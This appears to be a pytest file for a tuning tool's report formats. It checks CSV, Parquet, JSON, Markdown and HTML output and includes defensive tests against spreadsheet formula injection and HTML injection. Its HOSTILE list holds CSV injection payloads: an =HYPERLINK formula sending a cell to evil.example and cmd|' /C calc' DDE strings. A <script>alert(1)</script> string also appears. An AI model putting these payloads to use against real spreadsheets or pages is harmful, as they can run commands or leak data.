"""Every report format parses back to the same ranked trials (on experiment directories written file by file)."""

import csv
import json
import math
import re
import subprocess
import sys
from html.parser import HTMLParser

import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

from tests.tuning.report.test_report import make_experiment
from tuning.errors import UserError
from tuning.report.formats import render, results_path, write
from tuning.report.load import load_report
from tuning.report.text import human_bytes
from tuning.text import inert


@pytest.fixture
def report(tmp_path):
    exp = make_experiment(
        tmp_path / "e",
        {
            "a": ("TERMINATED", [0.5, 0.4, 0.3], {"checkpoint_000002/checkpoint.ckpt": "x" * 2048}),
            "b": ("TERMINATED", [0.6], {}),
            "c": ("ERROR", [math.nan], {"error.txt": "Traceback\nValueError: lr | bad\n"}),
        },
    )
    return load_report(str(exp))


def test_table_columns_and_notes(report):
    lines = render(report, "table").splitlines()
    header = lines[3].split()
    assert header[:5] == ["rank", "trial", "status", "val_loss", "epoch"] and "node" in header and "ckpts" in header
    rows = [line.split() for line in lines[4:7]]
    assert [r[:3] for r in rows] == [["1", "a", "completed"], ["2", "b", "stopped_early@1"], ["3", "c", "errored"]]
    assert rows[0][header.index("ckpts")] == "1/2.0K"
    assert "c: ValueError: lr | bad" in lines and any(line.startswith("compute: 5.0 trial-s") for line in lines)


def test_markdown_rows_parse_back(report):
    rows = [line for line in render(report, "markdown").splitlines() if line.startswith("|")]
    cells = [[c.strip() for c in row.strip("|").split(" | ")] for row in rows]
    assert {len(c) for c in cells} == {len(cells[0])}  # the "|" inside the error is escaped
    assert [c[1] for c in cells[2:]] == ["a", "b", "c"]


def test_json_parses_back(report):
    data = json.loads(render(report, "json", top=2))
    assert [(t["rank"], t["trial_id"], t["metric"]) for t in data["trials"]] == [(1, "a", 0.3), (2, "b", 0.6)]
    assert data["compute"]["trial_s"] == 5.0  # the errored trial ran 1 s too


@pytest.mark.parametrize("fmt, read", [("csv", pacsv.read_csv), ("parquet", pq.read_table)])
def test_csv_and_parquet_write_the_trials_and_every_result(report, tmp_path, fmt, read):
    out = tmp_path / f"r.{fmt}"
    assert write(report, fmt, None, str(out)) == [str(out), str(results_path(str(out)))]
    trials, results = read(out).to_pylist(), read(tmp_path / f"r_results.{fmt}").to_pylist()
    assert [(t["rank"], t["trial_id"], t["status"], t["val_loss"]) for t in trials] == [
        (1, "a", "completed", 0.3),
        (2, "b", "stopped_early", 0.6),
        (3, "c", "errored", None),
    ]
    assert trials[0]["model.init_args.lr"] == 0.1 and trials[0]["checkpoint_bytes"] == 2048
    assert [(r["trial_id"], r["training_iteration"]) for r in results] == [
        ("a", 1),
        ("a", 2),
        ("a", 3),
        ("b", 1),
        ("c", 1),
    ]
    nan = results[4]["val_loss"]
    assert results[2]["val_loss"] == 0.3 and (nan is None or math.isnan(nan))  # CSV has no NaN: read as null


def test_parquet_needs_an_output_file(report):
    with pytest.raises(UserError, match="--format parquet: needs --output"):
        write(report, "parquet", None, None)


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_one_self_contained_page(report):
    page = render(report, "html", importance={"trials": 2, "note": "needs at least 4 trials"})
    parser = _Tags()
    parser.feed(page)
    assert parser.tags.count("svg") == 3  # curves, parallel coordinates, one scatter (lr)
    assert "ValueError: lr | bad" in parser.text and "needs at least 4 trials" in parser.text
    assert not any(tag in parser.tags for tag in ("link", "img", "iframe")) and "src=" not in page
    assert "http://" not in page and "https://" not in page


def test_human_bytes():
    assert [human_bytes(n) for n in (0, 1023, 1536, 5 * 1024**3)] == ["0B", "1023B", "1.5K", "5.0G"]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(tmp_path):
    """Trials whose string params could run as spreadsheet formulas, next to plain negative numbers."""
    trials = {
        f"t{i}": (
            "TERMINATED",
            [0.1 * (i + 1)],
            {},
            {"model.init_args.act": text, "model.init_args.shift": -0.5 - i, "model.init_args.tag": "-1.5"},
        )
        for i, text in enumerate(HOSTILE)
    }
    trials["t9"] = (
        "ERROR",
        [0.9],
        {"error.txt": "Traceback\nValueError: <script>alert(1)</script> a|b & c\\|\n"},
        {"model.init_args.act": "relu", "model.init_args.shift": 2.0, "model.init_args.tag": "ok"},
    )
    space = {f"model.init_args.{key}": {"choice": [0]} for key in ("act", "shift", "tag")}
    return load_report(str(make_experiment(tmp_path / "e", trials, space=space)))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile, tmp_path):
    out = tmp_path / "r.csv"
    write(hostile, "csv", None, str(out))
    rows = {r["trial_id"]: r for r in pacsv.read_csv(out).to_pylist()}
    for i, text in enumerate(HOSTILE):
        assert rows[f"t{i}"]["model.init_args.act"] == "'" + inert(text)  # OWASP: a leading quote; controls shown
        assert rows[f"t{i}"]["model.init_args.shift"] == -0.5 - i  # numbers stay numbers
        assert rows[f"t{i}"]["model.init_args.tag"] == "-1.5"  # a plain number in a text column: no quote
    assert rows["t9"]["model.init_args.act"] == "relu" and rows["t9"]["model.init_args.shift"] == 2.0
    with open(out, newline="") as raw:  # what a spreadsheet gets: every cell, as text
        cells = [cell for row in csv.reader(raw) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [cell for cell in cells if cell.startswith("-") and not re.fullmatch(r"-[\d.e+-]+", cell)]
    assert render(hostile, "csv") == out.read_bytes().decode()  # printed the same way


def test_csv_column_names_are_neutralised_too(tmp_path):
    exp = make_experiment(
        tmp_path / "e",
        {"a": ("TERMINATED", [0.5], {}, {"=cmd|'/C calc'!A0": "x"})},
        space={"=cmd|'/C calc'!A0": {"choice": ["x"]}},
    )
    header = render(load_report(str(exp)), "csv").splitlines()[0]
    names = next(csv.reader([header]))
    assert "'=cmd|'/C calc'!A0" in names and not any(name.startswith("=") for name in names)


def test_markdown_escapes_html_and_pipes(hostile):
    text = render(hostile, "markdown")
    assert "<script>" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&amp; c" in text
    rows = [line for line in text.splitlines() if line.startswith("|")]
    cells = [re.split(r"(?<!\\) \| ", row.strip("|").strip()) for row in rows]
    assert {len(c) for c in cells} == {len(cells[0])}, "no cell spills into the next"
    assert not re.search(r"(?<!\\)\|", "".join(c for r in cells for c in r)), "every pipe inside a cell is escaped"


def test_every_table_has_the_same_columns(report):
    """One column list (tuning.report.text.columns): console, Markdown and HTML tables agree on labels and order."""
    console = render(report, "table").splitlines()[3].split()
    markdown = [c.strip() for c in render(report, "markdown").splitlines()[4].strip("|").split("|")]
    page = render(report, "html")
    heads = re.findall(r"<th tabindex=\"0\"[^>]*>([^<]*)</th>", page)
    assert console == markdown == heads and "lr" in heads and heads[-2:] == ["ckpts", "checkpoint"]
    assert 'data-v="2048">1/2.0K</td>' in page  # the checkpoint cell says what the console says, sorts by bytes


@pytest.fixture
def mixed(tmp_path):
    """A searched choice whose members are of mixed types (int, str, null), one trial each, and a choice of lists."""
    space = {
        "model.init_args.width": {"choice": [32, "wide", None]},
        "model.init_args.layers": {"choice": [[64, 64], [128]]},
    }
    trials = {
        "a": ("TERMINATED", [0.3], {}, {"model.init_args.width": 32, "model.init_args.layers": [64, 64]}),
        "b": ("TERMINATED", [0.4], {}, {"model.init_args.width": "wide", "model.init_args.layers": [128]}),
        "c": ("TERMINATED", [0.5], {}, {"model.init_args.width": None, "model.init_args.layers": [64, 64]}),
    }
    return make_experiment(tmp_path / "e", trials, space=space)


@pytest.mark.parametrize("fmt, read", [("csv", pacsv.read_csv), ("parquet", pq.read_table)])
def test_a_choice_of_mixed_types_is_written_as_text_with_one_warning(mixed, tmp_path, fmt, read):
    """Arrow holds one type per column: a choice of 32, "wide" and null becomes a text column (Issue 32)."""
    out = tmp_path / f"r.{fmt}"
    with pytest.warns(UserWarning) as caught:
        write(load_report(str(mixed)), fmt, None, str(out))
    named = [str(w.message) for w in caught if "model.init_args.width" in str(w.message)]
    assert named == ["model.init_args.width: values of mixed types (int, str), written as text"]
    trials = {t["trial_id"]: t for t in read(out).to_pylist()}
    null = None if fmt == "parquet" else ""  # CSV has no null text: an empty cell reads back as ""
    assert [trials[t]["model.init_args.width"] for t in "abc"] == ["32", "wide", null]
    assert [trials[t]["val_loss"] for t in "abc"] == [0.3, 0.4, 0.5]  # the other columns keep their types
    # Parquet keeps a list as a list; CSV, which has none, writes its JSON text (no warning: nothing mixed)
    layers = [trials[t]["model.init_args.layers"] for t in "abc"]
    assert layers == ([[64, 64], [128], [64, 64]] if fmt == "parquet" else ["[64, 64]", "[128]", "[64, 64]"])
    assert not [w for w in caught if "layers" in str(w.message)]


def test_text_formats_keep_a_choice_of_mixed_types_as_it_is(mixed):
    report = load_report(str(mixed))
    trials = {t["trial_id"]: t for t in json.loads(render(report, "json"))["trials"]}
    assert [trials[t]["config"]["model.init_args.width"] for t in "abc"] == [32, "wide", None]
    assert "wide" in render(report, "table") and "wide" in render(report, "markdown")


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_report_command_writes_a_mixed_choice_without_a_traceback(mixed, tmp_path, fmt):
    out = tmp_path / f"r.{fmt}"
    command = [sys.executable, "-m", "tuning", "report", str(mixed), "--format", fmt, "--output", str(out)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "Arrow" not in done.stderr
    assert [line for line in done.stderr.splitlines() if "model.init_args.width" in line] == [
        "warning: model.init_args.width: values of mixed types (int, str), written as text"
    ]
    assert out.exists() and results_path(str(out)).exists()
